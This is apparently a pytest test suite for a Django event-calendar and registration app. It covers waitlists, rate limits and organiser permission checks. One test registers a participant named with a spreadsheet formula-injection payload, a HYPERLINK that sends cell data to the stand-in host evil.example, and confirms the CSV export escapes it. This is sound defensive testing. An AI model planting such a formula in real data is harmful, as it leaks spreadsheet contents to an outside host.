"""Calendar, event page, registration journey and organiser pages, with the role × action matrix."""

import re

import pytest
from django.core import mail
from django.urls import reverse

from echos.events import services
from echos.events.forms import EventForm
from echos.events.models import Event, Registration

pytestmark = pytest.mark.django_db


def test_calendar_lists_public_events_with_filters_in_the_url(client, make_event, hubs):
    make_event(title="Oslo screening dialogue")
    make_event(
        title="Lisbon webinar",
        hub=hubs["portugal"],
        type="webinar",
        format="online",
        online_url="https://meet.example.invalid/x",
        languages=["pt"],
    )
    make_event(title="Secret draft", status="draft")
    page = client.get(reverse("events:calendar")).content.decode()
    assert "Oslo screening dialogue" in page and "Lisbon webinar" in page
    assert "Secret draft" not in page
    page = client.get(reverse("events:calendar"), {"country": "PT"}).content.decode()
    assert "Lisbon webinar" in page and "Oslo screening dialogue" not in page
    page = client.get(
        reverse("events:calendar"), {"language": "nb", "q": "screening"}
    ).content.decode()
    assert "Oslo screening dialogue" in page and "Lisbon" not in page
    page = client.get(reverse("events:calendar"), {"type": "webinar"}).content.decode()
    assert "Lisbon webinar" in page and "Oslo screening" not in page
    # Nonsense filter values are ignored, never a 500.
    response = client.get(
        reverse("events:calendar"), {"from": "yesterday", "hub": "x", "type": "?"}
    )
    assert response.status_code == 200


def test_past_events_show_outcomes(client, make_event):
    make_event(days=-5, title="Last fair", outcomes="Three hundred visitors signed up.")
    page = client.get(reverse("events:calendar"), {"when": "past"}).content.decode()
    assert "Last fair" in page and "Three hundred visitors" in page
    assert "Last fair" not in client.get(reverse("events:calendar")).content.decode()


def test_month_view_places_multi_day_event_on_each_day(client, make_event):
    event = make_event(days=30)
    services.update_event(
        actor=None,
        event=event,
        end=event.local_end.replace(tzinfo=None) + __import__("datetime").timedelta(days=2),
    )
    event.refresh_from_db()
    start = event.local_start
    page = client.get(reverse("events:month", args=[start.year, start.month])).content.decode()
    assert page.count(event.get_absolute_url()) >= 1
    assert client.get(reverse("events:month", args=[2026, 13])).status_code == 404


def test_draft_is_hidden_from_the_public(client, login, make_event, personas):
    event = make_event(status="draft")
    assert client.get(event.get_absolute_url()).status_code == 404
    assert login(personas["coord_no"]).get(event.get_absolute_url()).status_code == 200


def test_anonymous_registration_journey(client, make_event, django_capture_on_commit_callbacks):
    event = make_event(capacity=1)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("events:register", args=[event.pk]),
            {
                "name": "Ana",
                "email": "ana@example.invalid",
                "audience": "citizens",
                "consent": "on",
            },
        )
    assert response.status_code == 302 and response["Location"] == reverse(
        "events:registration_sent"
    )
    assert len(mail.outbox) == 1
    link = re.search(r"https?://\S+/events/registration/\S+/", mail.outbox[0].body).group(0)
    path = link[link.index("/events/") :]
    page = client.get(path).content.decode()
    assert "Registered" in page and "Confirm my e-mail address" in page
    client.post(path, {"action": "confirm"})
    r = Registration.objects.get(email="ana@example.invalid")
    assert r.email_confirmed_at is not None
    # A second person finds the event full and is told they are on the waitlist.
    response = client.post(
        reverse("events:register", args=[event.pk]),
        {"name": "Bo", "email": "bo@example.invalid", "consent": "on"},
        follow=True,
    )
    assert "waitlist" in response.content.decode()
    assert Registration.objects.get(email="bo@example.invalid").status == "waitlisted"
    # Ana cancels with her link: Bo is offered the place.
    client.post(path, {"action": "cancel"})
    assert Registration.objects.get(email="bo@example.invalid").status == "offered"


def test_registration_form_errors_name_the_field(client, make_event):
    event = make_event()
    response = client.post(
        reverse("events:register", args=[event.pk]), {"name": "", "email": "nope"}
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert 'id="id_email_error"' in page and 'id="id_consent_error"' in page
    assert event.registrations.count() == 0


def test_twice_with_the_same_email_is_told_by_email_not_on_the_page(
    client, make_event, django_capture_on_commit_callbacks
):
    """Anonymous: the second attempt gets the same "check your e-mail" page as the first; the
    address (not the visitor) is told it is already registered. Still one registration."""
    event = make_event()
    data = {"name": "Ana", "email": "ana@example.invalid", "consent": "on"}
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(reverse("events:register", args=[event.pk]), data)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("events:register", args=[event.pk]), data)
    assert response.status_code == first.status_code == 302
    assert response["Location"] == first["Location"] == reverse("events:registration_sent")
    assert "already registered" not in client.get(response["Location"]).content.decode()
    assert event.registrations.count() == 1
    assert [m.to for m in mail.outbox] == [["ana@example.invalid"]] * 2
    assert "already registered" in mail.outbox[1].subject
    token = re.search(r"/events/registration/([^/\s]+)/", mail.outbox[1].body).group(1)
    assert services.registration_from_token(token).pk == event.registrations.get().pk


def test_signed_in_person_is_told_their_own_address_is_registered(login, make_event, personas):
    user = personas["member_no"]
    user.email = "member@example.invalid"
    user.save()
    event = make_event()
    data = {"name": "Member", "email": "member@example.invalid", "consent": "on"}
    # Registered before signing in (no account on the registration): the form says so.
    assert login(None).post(reverse("events:register", args=[event.pk]), data).status_code == 302
    client = login(user)
    response = client.post(reverse("events:register", args=[event.pk]), data)
    assert response.status_code == 422
    assert "member@example.invalid is already registered" in response.content.decode()
    assert event.registrations.count() == 1
    # Registered through the account: refused, and the page shows their registration.
    other = make_event(title="Second dialogue")
    assert client.post(reverse("events:register", args=[other.pk]), data).status_code == 302
    response = client.post(reverse("events:register", args=[other.pk]), data)
    assert response.status_code == 422
    assert "Your registration: <strong>Registered</strong>" in response.content.decode()
    assert other.registrations.count() == 1


def test_honeypot_and_rate_limit(client, make_event, settings):
    from django.core.cache import cache

    event = make_event()
    response = client.post(
        reverse("events:register", args=[event.pk]),
        {"name": "Bot", "email": "bot@example.invalid", "consent": "on", "website_url": "spam"},
    )
    assert response.status_code == 302 and event.registrations.count() == 0
    settings.ECHOS_RATE_LIMITS = True
    settings.ECHOS_RATE_PUBLIC = {"register": 2}
    settings.ECHOS_RATE_FORMS = 1000
    cache.clear()
    codes = [
        client.post(
            reverse("events:register", args=[event.pk]),
            {"name": f"P{i}", "email": f"p{i}@example.invalid", "consent": "on"},
        ).status_code
        for i in range(3)
    ]
    assert codes == [302, 302, 429]
    assert event.registrations.count() == 2
    cache.clear()


def test_invalid_personal_link(client):
    response = client.get(reverse("events:registration", args=["forged-token"]))
    assert response.status_code == 404
    assert "not valid" in response.content.decode()


ORGANISER_PAGES = [
    "events:participants",
    "events:participants_export",
    "events:event_edit",
    "events:session_add",
]
MATRIX = {
    "network": 200,
    "coord_no": 200,
    "editor_no": 200,
    "member_no": 403,
    "coord_pt": 403,
    "anonymous": 302,
}


@pytest.mark.parametrize("persona, expected", MATRIX.items())
@pytest.mark.parametrize("name", ORGANISER_PAGES)
def test_organiser_pages_matrix(
    login, personas, make_event, register_many, persona, expected, name
):
    event = make_event()
    register_many(event, 1)
    response = login(personas[persona]).get(reverse(name, args=[event.pk]))
    assert response.status_code == expected
    if expected != 200:
        assert b"person0@example.invalid" not in response.content


def test_public_page_never_shows_participants(client, make_event, register_many):
    event = make_event()
    register_many(event, 2)
    page = client.get(event.get_absolute_url()).content.decode()
    assert "person0@example.invalid" not in page and "person 1" not in page


def test_venue_only_for_registrants_when_organiser_chooses(client, make_event):
    event = make_event(link_visibility="registrants", venue="Hidden hall")
    assert "Hidden hall" not in client.get(event.get_absolute_url()).content.decode()


def test_coordinator_creates_publishes_and_checks_in(login, personas, hubs, register_many):
    client = login(personas["coord_no"])
    data = {
        "title": "Cancer Mission Fair Oslo",
        "description": "Three days of talks.",
        "type": "mission_fair",
        "format": "hybrid",
        "start": "2027-05-18T09:00",
        "end": "2027-05-20T17:00",
        "time_zone": "Europe/Oslo",
        "venue": "Oslo Spektrum",
        "online_url": "https://stream.example.invalid/fair",
        "link_visibility": "public",
        "languages": "nb, en",
        "audiences": ["citizens", "researchers"],
        "objectives": ["prevention", "quality_of_life"],
        "capacity": "2",
        "registration_enabled": "on",
        "offer_hours": "48",
        "accessibility": ["step_free", "captions"],
        "hub": hubs["norway"].pk,
    }
    response = client.post(reverse("events:event_create") + f"?hub={hubs['norway'].pk}", data)
    assert response.status_code == 302, response.content.decode()[:2000]
    event = Event.objects.get(title="Cancer Mission Fair Oslo")
    assert event.status == "draft" and event.language_codes == ["en", "nb"]
    assert event.local_start.hour == 9 and event.start.hour == 7  # CEST is UTC+2
    response = client.post(
        reverse("events:session_add", args=[event.pk]),
        {"title": "Launch of the hub", "start": "2027-05-18T09:30", "end": "2027-05-18T10:30"},
    )
    assert response.status_code == 302
    bad = client.post(
        reverse("events:session_add", args=[event.pk]),
        {"title": "Too late", "start": "2027-05-21T09:30", "end": "2027-05-21T10:30"},
    )
    assert bad.status_code == 422 and b"within the event" in bad.content
    client.post(reverse("events:event_status", args=[event.pk]), {"status": "published"})
    event.refresh_from_db()
    assert event.status == "published"
    (r,) = register_many(event, 1)
    response = client.post(
        reverse("events:participant_action", args=[event.pk, r.pk]),
        {"action": "check_in"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 200 and b"Undo check-in" in response.content
    r.refresh_from_db()
    assert r.status == "attended"
    export = client.get(reverse("events:participants_export", args=[event.pk])).content.decode()
    assert "person0@example.invalid" in export and "attended" in export


def test_event_form_errors(login, personas, hubs):
    client = login(personas["coord_no"])
    data = {
        "title": "Backwards",
        "description": "x",
        "type": "webinar",
        "format": "online",
        "online_url": "https://x.example.invalid",
        "start": "2027-05-18T12:00",
        "end": "2027-05-18T09:00",
        "time_zone": "Europe/Oslo",
        "link_visibility": "public",
        "languages": "en",
        "offer_hours": "48",
        "hub": hubs["norway"].pk,
    }
    response = client.post(reverse("events:event_create"), data)
    assert response.status_code == 422 and b"must end after it starts" in response.content
    data.update(end="2027-05-18T13:00", languages="en, xx")
    response = client.post(reverse("events:event_create"), data)
    assert response.status_code == 422 and b"Unknown language: xx" in response.content
    data.update(languages="en", time_zone="Mars/Olympus")
    response = client.post(reverse("events:event_create"), data)
    assert response.status_code == 422
    assert not Event.objects.filter(title="Backwards").exists()


def test_event_becomes_a_synergy_activity_without_retyping(login, personas, make_event):
    from echos.synergies.models import Activity

    event = make_event(objectives=["prevention"], audiences=["citizens", "health_professionals"])
    client = login(personas["coord_no"])
    response = client.post(reverse("events:to_activity", args=[event.pk]))
    activity = Activity.objects.get(origin="event", origin_id=str(event.pk))
    assert response["Location"] == activity.get_absolute_url()
    assert activity.title == event.title and activity.description == event.description
    assert activity.source_language == "nb"  # the country's language, when the event uses it
    assert {t.code for t in activity.objectives.all()} == {"prevention"}
    assert {t.code for t in activity.target_groups.all()} == {"citizens", "healthcare_providers"}
    # Doing it again refreshes the same activity.
    services.update_event(actor=None, event=event, title="Renamed dialogue")
    client.post(reverse("events:to_activity", args=[event.pk]))
    assert Activity.objects.filter(origin="event", origin_id=str(event.pk)).count() == 1
    assert Activity.objects.get(origin="event").title == "Renamed dialogue"
    assert (
        login(personas["coord_pt"]).post(reverse("events:to_activity", args=[event.pk])).status_code
        == 403
    )


def test_organiser_attaches_the_standard_registration_questions(
    login, personas, make_event, client
):
    event = make_event()
    coordinator = login(personas["coord_no"])
    form = coordinator.get(reverse("events:event_edit", args=[event.pk])).content.decode()
    assert 'value="event-registration"' in form
    data = {
        **{k: v for k, v in EventForm.initial_for(event).items() if v not in (None, [])},
        "questions": "event-registration",
    }
    for name in ("start", "end"):
        data[name] = data[name].strftime("%Y-%m-%dT%H:%M")
    response = coordinator.post(reverse("events:event_edit", args=[event.pk]), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    event.refresh_from_db()
    assert event.questions.code == "event-registration"
    page = client.get(event.get_absolute_url()).content.decode()
    assert "Do you need any of these to take part?" in page
    client.post(
        reverse("events:register", args=[event.pk]),
        {
            "name": "Ana",
            "email": "ana@example.invalid",
            "consent": "on",
            "q_access_needs": ["step_free", "captions"],
            "q_diet": "vegan",
        },
    )
    registration = event.registrations.get()
    assert registration.answers == {"access_needs": ["step_free", "captions"], "diet": "vegan"}
    export = coordinator.get(reverse("events:participants_export", args=[event.pk]))
    assert "step_free; captions" in export.content.decode()


def test_participant_export_never_hands_over_a_formula(login, personas, make_event, register_many):
    event = make_event()
    from echos.events import services

    services.register(
        event=event,
        name='=HYPERLINK("http://evil.example/?"&A2,"x")',
        email="formula@example.invalid",
        consent=True,
    )
    export = login(personas["coord_no"]).get(reverse("events:participants_export", args=[event.pk]))
    assert "'=HYPERLINK(" in export.content.decode()


def test_the_event_becomes_an_activity_through_the_events_service(personas, make_event):
    from django.core.exceptions import PermissionDenied

    from echos.synergies.models import Activity

    event = make_event()
    activity = services.record_as_activity(actor=personas["coord_no"], event=event)
    assert (activity.origin, activity.origin_id) == ("event", str(event.pk))
    assert services.record_as_activity(actor=personas["coord_no"], event=event) == activity
    with pytest.raises(PermissionDenied):
        services.record_as_activity(actor=personas["coord_pt"], event=event)
    assert Activity.objects.filter(origin="event").count() == 1
